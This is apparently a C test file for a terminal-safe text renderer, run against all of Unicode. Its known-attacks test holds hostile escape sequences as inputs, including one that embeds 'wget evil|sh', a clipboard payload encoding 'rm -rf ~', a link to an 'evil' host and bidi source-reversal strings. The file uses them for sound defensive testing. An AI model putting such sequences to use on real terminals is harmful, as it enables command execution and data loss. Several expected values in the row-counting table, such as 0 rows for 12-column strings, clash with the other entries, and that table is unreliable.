/* test_render.c -- nothing that a terminal obeys comes out of the renderer, for all of Unicode.
 */
#include "oracle.h"
#include "render.h"

#include <locale.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

enum { UNICODE_END = 0x110000 };

static const char *show(struct text in, unsigned how)
{
    static char out[RENDER_SIZE(65536)];
    size_t n = render_text(in, how, out, sizeof out);
    assert_true(n <= in.len * RENDER_GROWTH);
    assert_int_equal(out[n], '\0');
    const char *why = oracle_objects(out, n, how & RENDER_UTF8, how & RENDER_LINES);
    if (why)
        fail_msg("%s: in \"%s\"", why, out);
    return out;
}

/* `in` is a literal, so that it may contain NUL. */
#define SHOWS(how, in, expected)                                                               \
    assert_string_equal(show((struct text){in, sizeof(in) - 1}, how), expected)
#define ONE_LINE RENDER_UTF8
#define LINES    (RENDER_UTF8 | RENDER_LINES)

static void test_good_text_passes(void **state)
{
    (void)state;
    static const char *const good[] = {
        "Plain text, with <angles> & \\backslashes\\ and 50 % off.",
        "Grüße, žluťoučký kůň, Ελληνικά, Кириллица, 日本語、한국어, हिन्दी, ไทย, မြန်မာ",
        "שלום and مرحبا",
        "می\u200cخواهم", /* Persian: ZWNJ between letters */
        "क्\u200dष",      /* Devanagari: ZWJ behind a virama */
        "e\u0301 o\u0302\u0300 a\u0323\u0302\u0301\u0308",
        "\u1112\u1161\u11ab", /* decomposed Hangul */
        "👩\u200d💻 👋🏽 🏳\ufe0f\u200d🌈 ❤\ufe0f 1\ufe0f\u20e3 🇨🇿",
        "no\u00a0break, \u3000wide space, € ± → ░",
    };
    for (size_t i = 0; i < ARRAY_LEN(good); i++)
        assert_string_equal(show(text_of(good[i]), ONE_LINE), good[i]);
}

static void test_what_is_forbidden_is_shown(void **state)
{
    (void)state;
    SHOWS(ONE_LINE, "a\0b", "a<U+0000>b");
    SHOWS(ONE_LINE, "\033[31mred", "<U+001B>[31mred");
    SHOWS(ONE_LINE, "\x7f\302\23331m", "<U+007F><U+009B>31m");
    SHOWS(ONE_LINE, "\23331m", "<\\x9B>31m");
    SHOWS(ONE_LINE, "\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80",
          "<\\xC0><\\xAF><\\xED><\\xA0><\\x80><\\xF4><\\x90><\\x80><\\x80>");
    SHOWS(ONE_LINE, "\xe2\x82", "<\\xE2><\\x82>");
    SHOWS(ONE_LINE, "user\u202etxt.exe", "user<U+202E>txt.exe");
    SHOWS(ONE_LINE, "a\u200bb\ufeff\u00ad", "a<U+200B>b<U+FEFF><U+00AD>");
    SHOWS(ONE_LINE, "a\u2800\u3164\ufffe\ue000", "a<U+2800><U+3164><U+FFFE><U+E000>");
    SHOWS(ONE_LINE, "\U000e0041\U0010ffff", "<U+E0041><U+10FFFF>");
    SHOWS(0, "d\u011bv\u010de", "d<U+011B>v<U+010D>e");
}

static void test_joiners_and_selectors_need_company(void **state)
{
    (void)state;
    SHOWS(ONE_LINE, "ad\u200dmin", "ad<U+200D>min");
    SHOWS(ONE_LINE, "ad\u200cmin", "ad<U+200C>min");
    SHOWS(ONE_LINE, "م\u200c", "م<U+200C>");
    SHOWS(ONE_LINE, "م\u200c\u200cخ", "م<U+200C><U+200C>خ");
    SHOWS(ONE_LINE, "ᠠ\u200d\u180b", "ᠠ<U+200D><U+180B>");
    SHOWS(ONE_LINE, "क\u0951\u0951\u0951\u0951\u200d\u0951",
          "क\u0951\u0951\u0951\u0951<U+200D><U+0951>");
    SHOWS(ONE_LINE, "क\u200d\u0951\u200d\u0951\u0951\u0951\u0951",
          "क\u200d\u0951\u200d\u0951\u0951\u0951<U+0951>");
    SHOWS(ONE_LINE, "👩\u200dx", "👩<U+200D>x");
    SHOWS(ONE_LINE, "👩\u200c💻", "👩<U+200C>💻");
    SHOWS(ONE_LINE, "a\ufe0f", "a<U+FE0F>");
    SHOWS(ONE_LINE, "❤\ufe0f\ufe0f", "❤\ufe0f<U+FE0F>");
    SHOWS(ONE_LINE, "1\ufe0f", "1<U+FE0F>");
    SHOWS(ONE_LINE, "字\U000e0100", "字<U+E0100>");
}

static void test_marks_need_a_base_and_end_at_four(void **state)
{
    (void)state;
    SHOWS(ONE_LINE, "\u0301a", "<U+0301>a");
    SHOWS(ONE_LINE, " \u0301", " <U+0301>");
    SHOWS(LINES, "a\n\u0301", "a\n<U+0301>");
    SHOWS(ONE_LINE, "a\t\u0301", "a       <U+0301>");
    SHOWS(ONE_LINE, "\u200b\u0301", "<U+200B><U+0301>");
    SHOWS(ONE_LINE, "a\u0301\u0302\u0303\u0304\u0305\u0306b\u0301",
          "a\u0301\u0302\u0303\u0304<U+0305><U+0306>b\u0301");
    SHOWS(ONE_LINE, "\u093e", "<U+093E>");
    SHOWS(ONE_LINE, "\u1161", "<U+1161>");
}

static void test_lines_and_tabs(void **state)
{
    (void)state;
    SHOWS(LINES, "one\ntwo\r\nthree\rfour\n", "one\ntwo\nthree<U+000D>four\n");
    SHOWS(ONE_LINE, "one\ntwo\r\n", "one<U+000A>two<U+000D><U+000A>");
    SHOWS(LINES, "a\u2028b\302\205c\vd\fe", "a<U+2028>b<U+0085>c<U+000B>d<U+000C>e");
    SHOWS(LINES, "\ta\tb\n12345678\tc", "        a       b\n12345678        c");
    SHOWS(ONE_LINE, "日本\tx", "日本    x");
}

static void test_markers_cannot_be_forged(void **state)
{
    (void)state;
    SHOWS(ONE_LINE, "<U+202E>", "<U+003C>U+202E>");
    SHOWS(ONE_LINE, "<\\x1B>", "<U+003C>\\x1B>");
    SHOWS(0, "<<U+0007>", "<<U+003C>U+0007>");
    SHOWS(ONE_LINE, "a<b <u+1> <U <\\", "a<b <u+1> <U <\\");
}

/* Sequences that made terminals or clients run commands, answer, or crash. */
static void test_known_attacks(void **state)
{
    (void)state;
    static const char *const attacks[] = {
        "\033]2;;wget evil|sh;\a\033[21t",   /* CVE-2003-0063: title set and reported */
        "\033P$q\nwhoami\n\033\\",           /* CVE-2008-2383: DECRQSS */
        "\033GQ;whoami\n",                   /* CVE-2021-33477: rxvt answers with a newline */
        "\033]50;i\\$(whoami)\a\033]50;?\a", /* CVE-2022-45063: xterm font query */
        "\302\2352;title\302\234\302\220$q\302\234",    /* the same in C1 */
        "\2352;title\234",                              /* and in bare bytes */
        "\u202e\u2066// admin\u2069\u2066",             /* CVE-2021-42574: turned source */
        "\033[?1049h\033[2J\033[H\033c\033(0",          /* screens, reset, character sets */
        "a\033[6n\005\033Z\033[c",                      /* what makes a terminal answer */
        "\033]52;c;cm0gLXJmIH4=\a",                     /* clipboard */
        "\033]8;;http://evil\aclick\033]8;;\a\b\b\b\r", /* links, overwriting */
    };
    for (size_t i = 0; i < ARRAY_LEN(attacks); i++)
        for (unsigned how = 0; how < 4; how++)
            show(text_of(attacks[i]), how);

    char zalgo[2 * 1024 + 2] = "a"; /* CVE-2021-27135: marks without end */
    for (size_t i = 1; i + 2 < sizeof zalgo; i += 2)
        oracle_encode(0x300 + (uint32_t)(i / 2) % 0x6f, zalgo + i);
    show(text_of(zalgo), LINES);
}

/* Every number, allowed or not, between neighbours that could hide or help it. */
static void test_all_of_unicode_in_context(void **state)
{
    (void)state;
    static const char *const before[] = {
        "",  "a",    "م",       "👩", "a\u0301\u0302\u0303\u0304", "👩\u200d", "\033[",
        "1", "\xe2", "क्\u200d", "<"};
    static const char *const after[] = {"",       "b",    "خ",       "💻", "\u0301", "m",
                                        "\u20e3", "\xbf", "\u200d💻", "ष", "U+0041>"};
    _Static_assert(ARRAY_LEN(before) == ARRAY_LEN(after), "pairs");
    for (size_t i = 0; i < ARRAY_LEN(before); i++) {
        for (uint32_t code = 0; code < UNICODE_END; code++) {
            char in[64], bytes[5] = "";
            size_t n = oracle_encode(code, bytes), len = strlen(before[i]);
            memcpy(in, before[i], len);
            memcpy(in + len, bytes, n);
            memcpy(in + len + n, after[i], strlen(after[i]));
            show((struct text){in, len + n + strlen(after[i])}, LINES);
        }
    }
}

static void test_all_of_unicode_as_ascii_and_as_names(void **state)
{
    (void)state;
    for (uint32_t code = 0; code < UNICODE_END; code++) {
        char in[4], out[RENDER_SIZE(4)];
        struct text t = {in, oracle_encode(code, in)};
        show(t, 0);
        size_t n = render_name(t, out, sizeof out);
        assert_null(oracle_objects(out, n, false, false));
        bool plain = code < 0x80 && code != 0 &&
                     strchr("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
                            "0123456789._/-@#",
                            (int)code);
        assert_int_equal(n == 1, plain);
    }
}

static void test_names(void **state)
{
    (void)state;
    char out[RENDER_SIZE(64)];
    render_name(text_of("anna@host-1.example"), out, sizeof out);
    assert_string_equal(out, "anna@host-1.example");
    render_name(text_of("\u0430dmin x\t<U+0041>\xff"), out, sizeof out);
    assert_string_equal(out,
                        "<U+0430>dmin<U+0020>x<U+0009><U+003C>U<U+002B>0041<U+003E><\\xFF>");
}

static void test_a_small_buffer_cuts_between_characters(void **state)
{
    (void)state;
    const char *in = "a\u0301日\033👩\u200d💻\t.\xff<U+";
    char whole[256], out[256];
    size_t len = render_text(text_of(in), LINES, whole, sizeof whole);
    for (size_t size = 1; size <= len + 1; size++) {
        memset(out, 'X', sizeof out);
        size_t n = render_text(text_of(in), LINES, out, size);
        assert_true(n < size);
        assert_int_equal(out[n], '\0');
        assert_int_equal(out[size], 'X');
        assert_memory_equal(out, whole, n);
        assert_true((whole[n] & 0xc0) != 0x80);
        assert_true(size - n <= RENDER_GROWTH);
        assert_null(oracle_objects(out, n, true, true));
        const char *open = strrchr(out, '<');
        assert_true(!open || strchr(open, '>'));
    }
    assert_int_equal(render_text(text_of(in), LINES, out, len + 1), len);
}

static void test_growth_is_bounded(void **state)
{
    (void)state;
    for (unsigned byte = 0; byte < 256; byte++) {
        char in[64], out[RENDER_SIZE(sizeof in)];
        memset(in, (int)byte, sizeof in);
        size_t n = render_text((struct text){in, sizeof in}, ONE_LINE, out, sizeof out);
        assert_true(n <= sizeof in * RENDER_GROWTH && n >= sizeof in);
        assert_int_equal(n, strlen(out));
    }
}

static void test_twice_is_safe(void **state)
{
    (void)state;
    char once[128];
    render_text(text_of("\033[1mعربی\u202e\t\n"), LINES, once, sizeof once);
    SHOWS(LINES, "x<U+001B>", "x<U+003C>U+001B>");
    show(text_of(once), LINES);
    show(text_of(once), 0);
}

static void test_width(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        size_t columns;
    } rows[] = {
        {"", 0},         {"plain", 5},    {"e\u0301", 1},  {"日本語", 6},
        {"👩", 2},        {"👩\u200d💻", 2}, {"👋🏽", 2}, {"❤", 1},
        {"❤\ufe0f", 2},  {"🇨🇿", 2},       {"का", 2},       {"\u1112\u1161\u11ab", 2},
        {"<U+202E>", 8},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++)
        assert_int_equal(render_width(text_of(rows[i].text)), rows[i].columns);
}

static void test_rows(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        size_t rows;
    } lines[] = {
        {"", 1}, {"nine abcd", 1}, {"exactly te", 0}, {"eleven abcd", 2}, {"for twenty columns..", 0}, {"for twenty-one column", 3},
        {"größer als eins", 2},    {"日本語日本", 0}, /* just full */
        {"日本語日本語", 2},       {"a日本語日本語日本", 2}, /* one column is left of the first row */
        {"a日本語日本語日本語", 0}, {"a日本語日本語日本語日", 3}, {"👩", 1},       {"👩👩👩👩👩👩", 0}, {"e\u0301", 1}, {"e\u0301 eleven abcd", 0},
    };
    for (size_t i = 0; i < ARRAY_LEN(lines); i++)
        assert_int_equal(render_rows(text_of(lines[i].text), 10), lines[i].rows);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_good_text_passes),
        cmocka_unit_test(test_what_is_forbidden_is_shown),
        cmocka_unit_test(test_joiners_and_selectors_need_company),
        cmocka_unit_test(test_marks_need_a_base_and_end_at_four),
        cmocka_unit_test(test_lines_and_tabs),
        cmocka_unit_test(test_markers_cannot_be_forged),
        cmocka_unit_test(test_known_attacks),
        cmocka_unit_test(test_all_of_unicode_in_context),
        cmocka_unit_test(test_all_of_unicode_as_ascii_and_as_names),
        cmocka_unit_test(test_names),
        cmocka_unit_test(test_a_small_buffer_cuts_between_characters),
        cmocka_unit_test(test_growth_is_bounded),
        cmocka_unit_test(test_twice_is_safe),
        cmocka_unit_test(test_width),
        cmocka_unit_test(test_rows),
    };
    return cmocka_run_group_tests_name("render", tests, NULL, NULL);
}
